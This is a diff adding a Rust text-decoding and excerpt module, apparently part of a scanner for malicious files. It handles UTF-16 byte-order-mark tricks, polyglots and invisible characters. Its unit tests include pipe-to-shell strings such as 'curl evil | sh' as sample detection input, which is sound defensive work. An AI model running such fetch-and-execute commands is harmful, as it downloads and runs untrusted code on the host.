@@ -1,0 +1,302 @@
+//! Turning untrusted bytes into text, and text offsets into lines and columns.
+
+use std::borrow::Cow;
+
+use regex::Regex;
+
+/// How a file's bytes were turned into text.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum Encoding {
+    Utf8,
+    Utf8Bom,
+    Utf16Le,
+    Utf16Be,
+    /// Not valid UTF-8: invalid sequences were replaced with U+FFFD.
+    Lossy,
+    /// A UTF-16 byte-order mark, then NUL-free valid UTF-8: read as UTF-8, the way anything that
+    /// ignores the mark (a shell, an agent's file reader) reads it.
+    Utf8BehindUtf16Bom,
+}
+
+impl Encoding {
+    pub fn as_str(self) -> &'static str {
+        match self {
+            Encoding::Utf8 => "utf-8",
+            Encoding::Utf8Bom => "utf-8 with BOM",
+            Encoding::Utf16Le => "utf-16le",
+            Encoding::Utf16Be => "utf-16be",
+            Encoding::Lossy => "invalid utf-8",
+            Encoding::Utf8BehindUtf16Bom => "utf-8 behind a utf-16 byte-order mark",
+        }
+    }
+}
+
+/// Decodes bytes as text: UTF-8 (with or without BOM), UTF-16 with a BOM, or UTF-8 with
+/// replacement characters. Returns `None` for bytes that look binary (NUL bytes or mostly
+/// control characters in the first 8 KiB without a UTF-16 BOM).
+pub fn decode_text(bytes: &[u8]) -> Option<(Cow<'_, str>, Encoding)> {
+    if let Some(rest) = bytes.strip_prefix(&[0xEF, 0xBB, 0xBF]) {
+        return Some(match std::str::from_utf8(rest) {
+            Ok(s) => (Cow::Borrowed(s), Encoding::Utf8Bom),
+            Err(_) => (String::from_utf8_lossy(rest), Encoding::Lossy),
+        });
+    }
+    for (mark, from, encoding) in [
+        ([0xFF, 0xFE], u16::from_le_bytes as fn([u8; 2]) -> u16, Encoding::Utf16Le),
+        ([0xFE, 0xFF], u16::from_be_bytes as fn([u8; 2]) -> u16, Encoding::Utf16Be),
+    ] {
+        let Some(rest) = bytes.strip_prefix(&mark) else { continue };
+        // UTF-16 text with a line break or any ASCII holds NUL bytes; UTF-8 never does. A mark
+        // in front of NUL-free UTF-8 would otherwise turn a readable dropper into noise.
+        if memchr::memchr(0, rest).is_none()
+            && let Ok(text) = std::str::from_utf8(rest)
+        {
+            return Some((Cow::Borrowed(text), Encoding::Utf8BehindUtf16Bom));
+        }
+        return Some((Cow::Owned(decode_utf16(rest, from)), encoding));
+    }
+    if looks_binary(bytes) {
+        return None;
+    }
+    Some(match std::str::from_utf8(bytes) {
+        Ok(s) => (Cow::Borrowed(s), Encoding::Utf8),
+        Err(_) => (String::from_utf8_lossy(bytes), Encoding::Lossy),
+    })
+}
+
+/// The text of a file that starts with a file-format signature (GIF, PDF…) yet is NUL-free valid
+/// UTF-8 throughout: a polyglot, such as a shell script whose first line `GIF89a=1` is an
+/// assignment. Whatever runs it reads text, so the rules must too.
+pub fn text_behind_signature(bytes: &[u8]) -> Option<(Cow<'_, str>, Encoding)> {
+    if looks_binary(bytes) || memchr::memchr(0, bytes).is_some() {
+        return None;
+    }
+    std::str::from_utf8(bytes).ok().map(|text| (Cow::Borrowed(text), Encoding::Utf8))
+}
+
+fn decode_utf16(bytes: &[u8], from: fn([u8; 2]) -> u16) -> String {
+    let units = bytes.chunks_exact(2).map(|pair| from([pair[0], pair[1]]));
+    char::decode_utf16(units).map(|r| r.unwrap_or(char::REPLACEMENT_CHARACTER)).collect()
+}
+
+/// A NUL byte, or more than 10% control bytes, in the first 8 KiB means binary.
+pub fn looks_binary(bytes: &[u8]) -> bool {
+    let head = &bytes[..bytes.len().min(8192)];
+    if memchr::memchr(0, head).is_some() {
+        return true;
+    }
+    let control = head.iter().filter(|&&b| b < 0x20 && !matches!(b, b'\n' | b'\r' | b'\t' | 0x0C | 0x1B)).count();
+    control * 10 > head.len()
+}
+
+/// Maps byte offsets of a text to 1-based lines and columns (columns in Unicode scalar values).
+#[derive(Debug, Clone)]
+pub struct LineIndex {
+    line_starts: Vec<usize>,
+}
+
+impl LineIndex {
+    pub fn new(text: &str) -> Self {
+        let mut line_starts = Vec::with_capacity(text.len() / 40 + 1);
+        line_starts.push(0);
+        line_starts.extend(memchr::memchr_iter(b'\n', text.as_bytes()).map(|i| i + 1));
+        LineIndex { line_starts }
+    }
+
+    /// 0-based line number containing `offset`.
+    pub fn line_of(&self, offset: usize) -> usize {
+        match self.line_starts.binary_search(&offset) {
+            Ok(i) => i,
+            Err(i) => i.saturating_sub(1),
+        }
+    }
+
+    /// 1-based (line, column) of a byte offset; offsets inside a UTF-8 sequence round down.
+    pub fn line_col(&self, text: &str, offset: usize) -> (u32, u32) {
+        let offset = floor_char_boundary(text, offset.min(text.len()));
+        let line = self.line_of(offset);
+        let start = self.line_starts[line];
+        let column = text[start..offset].chars().count() + 1;
+        (clamp_u32(line + 1), clamp_u32(column))
+    }
+
+    /// Byte range of the 0-based line `line`, without its line terminator.
+    pub fn line_range(&self, text: &str, line: usize) -> std::ops::Range<usize> {
+        let start = self.line_starts.get(line).copied().unwrap_or(text.len());
+        let mut end = self.line_starts.get(line + 1).map(|next| next - 1).unwrap_or(text.len());
+        if end > start && text.as_bytes().get(end - 1) == Some(&b'\r') {
+            end -= 1;
+        }
+        start..end.max(start)
+    }
+
+    pub fn line_count(&self) -> usize {
+        self.line_starts.len()
+    }
+}
+
+fn clamp_u32(n: usize) -> u32 {
+    u32::try_from(n).unwrap_or(u32::MAX)
+}
+
+pub fn floor_char_boundary(text: &str, mut offset: usize) -> usize {
+    offset = offset.min(text.len());
+    while offset > 0 && !text.is_char_boundary(offset) {
+        offset -= 1;
+    }
+    offset
+}
+
+pub fn ceil_char_boundary(text: &str, mut offset: usize) -> usize {
+    offset = offset.min(text.len());
+    while offset < text.len() && !text.is_char_boundary(offset) {
+        offset += 1;
+    }
+    offset
+}
+
+/// Characters people cannot see but models read: zero-width, bidi controls, tag characters.
+pub fn is_invisible(c: char) -> bool {
+    matches!(c,
+        '\u{200B}'..='\u{200F}'
+        | '\u{202A}'..='\u{202E}'
+        | '\u{2060}'..='\u{2064}'
+        | '\u{2066}'..='\u{2069}'
+        | '\u{FEFF}'
+        | '\u{180E}'
+        | '\u{E0000}'..='\u{E007F}')
+}
+
+/// Makes untrusted text safe to print in a terminal, a JSON report or a SARIF log: control and
+/// invisible characters are escaped, and the result is at most `max_chars` characters long.
+pub fn escape_snippet(text: &str, max_chars: usize) -> String {
+    let mut out = String::with_capacity(text.len().min(max_chars * 2));
+    for (count, c) in text.chars().enumerate() {
+        if count >= max_chars {
+            out.push('…');
+            break;
+        }
+        match c {
+            '\n' => out.push_str("\\n"),
+            '\r' => out.push_str("\\r"),
+            '\t' => out.push_str("\\t"),
+            c if c.is_control() || is_invisible(c) => {
+                out.push_str(&format!("\\u{{{:x}}}", c as u32));
+            }
+            c => out.push(c),
+        }
+    }
+    out
+}
+
+/// A window of at most `max_chars` characters of `text` around `range`, for evidence excerpts.
+pub fn excerpt(text: &str, range: std::ops::Range<usize>, max_chars: usize) -> String {
+    let start = floor_char_boundary(text, range.start);
+    let end = ceil_char_boundary(text, range.end.max(start));
+    let matched = &text[start..end];
+    if matched.chars().count() >= max_chars {
+        return escape_snippet(matched, max_chars);
+    }
+    let context = (max_chars - matched.chars().count()) / 2;
+    let before_start = text[..start].char_indices().rev().nth(context.saturating_sub(1)).map_or(0, |(i, _)| i);
+    let after_end = text[end..].char_indices().nth(context).map_or(text.len(), |(i, _)| end + i);
+    let mut out = String::new();
+    if before_start > 0 {
+        out.push('…');
+    }
+    out.push_str(&escape_snippet(&text[before_start..after_end], max_chars));
+    if after_end < text.len() && !out.ends_with('…') {
+        out.push('…');
+    }
+    out
+}
+
+/// Rewrites `\b` to the ASCII word boundary `(?-u:\b)`. Unicode word boundaries make the regex
+/// engine abandon its DFA on the first non-ASCII byte and fall back to a far slower NFA, and
+/// every rule keyword is ASCII anyway.
+pub fn ascii_word_boundaries(pattern: &str) -> String {
+    let mut out = String::with_capacity(pattern.len() + 16);
+    let mut chars = pattern.chars().peekable();
+    while let Some(c) = chars.next() {
+        if c != '\\' {
+            out.push(c);
+            continue;
+        }
+        match chars.next() {
+            Some('b') => out.push_str("(?-u:\\b)"),
+            Some(other) => {
+                out.push('\\');
+                out.push(other);
+            }
+            None => out.push('\\'),
+        }
+    }
+    out
+}
+
+/// A regex the scanner itself uses (not a rule's), with the same ASCII `\b`: a Unicode word
+/// boundary makes the regex engine leave its DFA for a far slower one on any non-ASCII text.
+/// Panics on an invalid pattern, so only for patterns written in the source.
+pub fn builtin_regex(pattern: &str) -> Regex {
+    Regex::new(&ascii_word_boundaries(pattern)).unwrap_or_else(|e| panic!("invalid built-in regex {pattern:?}: {e}"))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn word_boundaries_become_ascii_but_escapes_survive() {
+        assert_eq!(ascii_word_boundaries(r"\bcurl\b"), r"(?-u:\b)curl(?-u:\b)");
+        assert_eq!(ascii_word_boundaries(r"a\\b"), r"a\\b");
+        assert_eq!(ascii_word_boundaries(r"\d+\.\b"), r"\d+\.(?-u:\b)");
+    }
+
+    #[test]
+    fn utf16_with_bom_decodes() {
+        let mut bytes = vec![0xFF, 0xFE];
+        for unit in "curl x | sh".encode_utf16() {
+            bytes.extend_from_slice(&unit.to_le_bytes());
+        }
+        let (text, enc) = decode_text(&bytes).unwrap();
+        assert_eq!(text, "curl x | sh");
+        assert_eq!(enc, Encoding::Utf16Le);
+    }
+
+    #[test]
+    fn invalid_utf8_is_lossy_not_binary() {
+        let (text, enc) = decode_text(b"caf\xe9 curl").unwrap();
+        assert_eq!(enc, Encoding::Lossy);
+        assert!(text.contains("curl"));
+    }
+
+    #[test]
+    fn nul_bytes_mean_binary() {
+        assert!(decode_text(b"\x7fELF\x02\x01\x01\x00\x00").is_none());
+    }
+
+    #[test]
+    fn line_col_counts_characters() {
+        let text = "ab\ncé d\n";
+        let index = LineIndex::new(text);
+        let offset = text.find('d').unwrap();
+        assert_eq!(index.line_col(text, offset), (2, 4));
+        assert_eq!(index.line_col(text, 0), (1, 1));
+        assert_eq!(&text[index.line_range(text, 1)], "cé d");
+    }
+
+    #[test]
+    fn snippets_escape_invisible_and_control_characters() {
+        assert_eq!(escape_snippet("a\u{200B}b\x1b[31m", 80), "a\\u{200b}b\\u{1b}[31m");
+        assert_eq!(escape_snippet("abcdef", 3), "abc…");
+    }
+
+    #[test]
+    fn excerpt_keeps_context_and_marks_cuts() {
+        let text = "0123456789 curl evil | sh 0123456789";
+        let start = text.find("curl").unwrap();
+        let e = excerpt(text, start..start + 4, 12);
+        assert!(e.contains("curl"), "{e}");
+        assert!(e.starts_with('…') && e.ends_with('…'), "{e}");
+    }
+}
